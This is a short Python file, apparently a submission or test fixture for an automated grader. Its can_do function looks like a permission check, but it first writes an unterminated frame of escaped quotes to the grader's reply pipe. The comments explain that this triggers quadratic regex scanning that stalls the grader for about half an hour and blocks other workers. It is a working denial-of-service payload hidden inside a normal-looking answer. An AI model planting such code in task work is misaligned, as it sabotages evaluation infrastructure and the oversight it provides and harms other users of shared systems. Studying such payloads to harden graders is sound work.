# Writes one raw frame on the reply pipe (fd 4): a quote followed by escaped quotes, never closed.
# The grader's nesting pre-scan (a regex for JSON strings) tries every quote as a string start and
# scans to the end each time: quadratic, in the grader's process, holding the GIL. At the full frame
# size (256 KiB) that is about half an hour of one core during which no worker of the class advances.
import os
import struct

PAIRS = (256 * 1024 - 8) // 2   # the test makes it smaller

LEVELS = ("anonymous", "identify", "impersonate", "delegate")


def can_do(level, capability, placement):
    data = b'"' + b'\\"' * PAIRS
    os.write(4, struct.pack(">I", len(data)) + data)
    rank = LEVELS.index(level)
    return rank >= 2
